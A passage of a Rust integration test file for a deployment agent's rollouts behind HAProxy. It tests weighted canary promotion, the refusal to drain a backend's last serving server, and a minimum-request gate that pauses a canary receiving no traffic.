    // agent-check interval of the agent's answer; the rest of the rollout fails no request.
    let load = LoadGen::new(haproxy.frontend, "/version", 8).start();
    let promoted = fleet.cli(&["rollout", "promote", &id]);
    assert_eq!(promoted.code, 0, "{promoted}");
    let t0 = Instant::now();
    let took = wait_weight_step(haproxy, &cname, checks[ci], "up ready 100%\n", 100, &dump);
    eprintln!(
        "ramp step: canary at 100% in haproxy {:?} after promote, {took:?} after the agent answered it (agent-inter {INTER:?})",
        t0.elapsed()
    );
    assert!(
        took <= INTER + Duration::from_millis(150),
        "haproxy took {took:?} after the agent's answer, more than one agent-check interval ({INTER:?})"
    );
    let s = fleet.wait_finished(&id, fleet::TIMEOUT);
    assert_eq!(s.state().as_str(), "succeeded", "{}\n{}", s.reason, dump());
    let tally = load.stop();
    eprintln!("weighted rollout, promote to the end: {}", tally.summary());
    assert_eq!(tally.failed(), 0, "{}\n{}", tally.summary(), dump());
    for name in [&cname, &bname] {
        wait_for(
            &format!("{name} at full weight"),
            Duration::from_secs(15),
            &dump,
            || {
                haproxy
                    .server(name)
                    .is_ok_and(|s| s.serving() && s.weight == 100)
            },
        );
    }
    let explained = fleet.cli(&["rollout", "explain", &id]);
    assert!(
        explained.stdout.contains("traffic weights 10%,100%"),
        "explain does not show the weights:\n{explained}"
    );
}

#[test]
fn an_activation_that_would_drain_the_last_serving_server_is_refused_before_anything_changes() {
    let dir = tempfile::tempdir().unwrap();
    let socket = dir.path().join("admin.sock");
    let check = free_port();
    let fx = AgentFixture::start_with(behind_lb(
        "wired-last",
        check,
        &haproxy_keys(&socket, "h1", "5s"),
    ));
    let v1 = DemoRelease::healthy("last-1.0");
    let v2 = DemoRelease::healthy("last-2.0");
    fx.install_first(1, &v1);
    // h1 (the agent's service) and a peer the test switches in and out of maintenance.
    let peer = serin_tests::haproxy::NamedBackends::start(&["peer"], Duration::ZERO).unwrap();
    let servers = [
        Server {
            name: "h1".into(),
            addr: SocketAddr::from((LOCALHOST, fx.agent.port)),
            agent: Some(SocketAddr::from((LOCALHOST, check))),
        },
        Server {
            name: "peer".into(),
            addr: peer.servers[0].1,
            agent: None,
        },
    ];
    let haproxy = Haproxy::start(dir.path(), &servers, Duration::from_millis(200)).unwrap();
    let dump = || {
        format!(
            "{:?}\n{}\n{}",
            haproxy.stats(),
            haproxy.log_tail(),
            fx.dump()
        )
    };
    wait_in_rotation(&haproxy, "h1", &dump);
    haproxy
        .block_on(haproxy.api().set_state(BACKEND, "peer", "maint"))
        .unwrap();
    wait_for(
        "the peer in maintenance",
        Duration::from_secs(5),
        &dump,
        || haproxy.server("peer").is_ok_and(|s| !s.serving()),
    );

    // h1 is the backend's last serving server: refused, nothing drained or swapped.
    fx.publish(&v2);
    let pid = fx.agent.service_pid().unwrap();
    fx.send(orders::activate(
        2,
        v2.wire(SERVICE, ""),
        Deadlines::quick(),
    ));
    let r = fx.wait_outcome(2);
    assert_eq!(r.phase(), OrderPhase::Failed, "{}", r.message);
    assert_eq!(r.code(), ResultCode::LastServingServer, "{}", r.message);
    assert!(
        r.message
            .contains("draining be/h1 would leave backend be with no serving server"),
        "{}",
        r.message
    );
    assert_eq!(fx.agent.current_release().as_deref(), Some(v1.id.as_str()));
    assert_eq!(
        fx.agent.service_pid().unwrap(),
        pid,
        "the service was restarted"
    );
    assert_eq!(
        agent_check(check),
        "up ready 100%\n",
        "the server was drained"
    );
    assert!(haproxy.server("h1").unwrap().serving(), "{}", dump());

    // With the peer back, the same activation drains h1 and goes through.
    haproxy
        .block_on(haproxy.api().set_state(BACKEND, "peer", "ready"))
        .unwrap();
    wait_in_rotation(&haproxy, "peer", &dump);
    fx.activate(3, &v2, Deadlines::quick());
    let healthy = fx.wait_phase(3, OrderPhase::Healthy);
    let activated = result_in(&fx, 3, OrderPhase::Activated);
    assert!(
        activated
            .message
            .contains("backend be keeps 1 serving during the drain (peer)")
            && activated.message.contains("drained: idle after"),
        "{}",
        activated.message
    );
    assert!(
        healthy.message.contains("back in rotation"),
        "{}",
        healthy.message
    );
    fx.wait_serving(&v2.id);
}

#[test]
fn a_canary_without_traffic_pauses_with_insufficient_data_and_with_traffic_it_passes() {
    use serin_tests::fleet::{self, Timings};
    let wired = TwoBehindHaproxy::start("traffic-requests", Duration::from_millis(300));
    let (fleet, haproxy) = (&wired.fleet, &wired.haproxy);
    let dump = || wired.dump();

    let v2 = fleet::healthy("v2");
    fleet.push(&v2);
    let timings = Timings {
        bake: "2s",
        canary_bake: Some("3s"),
        min_healthy: "300ms",
        ..Timings::default()
    };
    let id = fleet.start_rollout(
        &v2.id,
        &["--waves", "1,100%", "--min-requests", "200"],
        &timings,
    );
    // Nobody sends a request: when the canary's bake is up the rollout pauses, never passes.
    let s = fleet.wait_rollout(&id, "paused", fleet::TIMEOUT, |s| {
        s.state().as_str() == "paused" || s.finished
    });
    assert_eq!(s.state().as_str(), "paused", "{}\n{}", s.reason, dump());
    assert!(
        s.reason.contains("insufficient data: 0 of 200 requests"),
        "{}\n{}",
        s.reason,
        dump()
    );
    assert_eq!(s.current_wave, 0, "{}", s.reason);
    let shown = fleet.cli(&["rollout", "status", &id]);
    assert!(
        shown.stdout.contains("at least 200 requests per wave")
            && shown.stdout.contains("insufficient data"),
        "status does not show the request gate:\n{shown}"
    );

    // With traffic through HAProxy the resumed canary counts its requests and passes, and so
    // does the next wave.
    let load = LoadGen::new(haproxy.frontend, "/version", 8).start();
    let resumed = fleet.cli(&["rollout", "resume", &id]);
    assert_eq!(resumed.code, 0, "{resumed}");
    let s = fleet.wait_finished(&id, fleet::TIMEOUT);
    let tally = load.stop();
    assert_eq!(s.state().as_str(), "succeeded", "{}\n{}", s.reason, dump());
    assert_eq!(tally.failed(), 0, "{}\n{}", tally.summary(), dump());
    let explained = fleet.cli(&["rollout", "explain", &id]);
    assert!(
        explained
            .stdout
            .contains("insufficient data: 0 of 200 requests")
            && explained.stdout.contains("requests served (at least 200)"),
        "explain does not show the request gate's verdicts:\n{explained}"
    );
    eprintln!(
        "request gate: paused on 0 of 200 requests without traffic; with load ({}) passed\n{}",
        tally.summary(),
        explained.stdout
    );
}
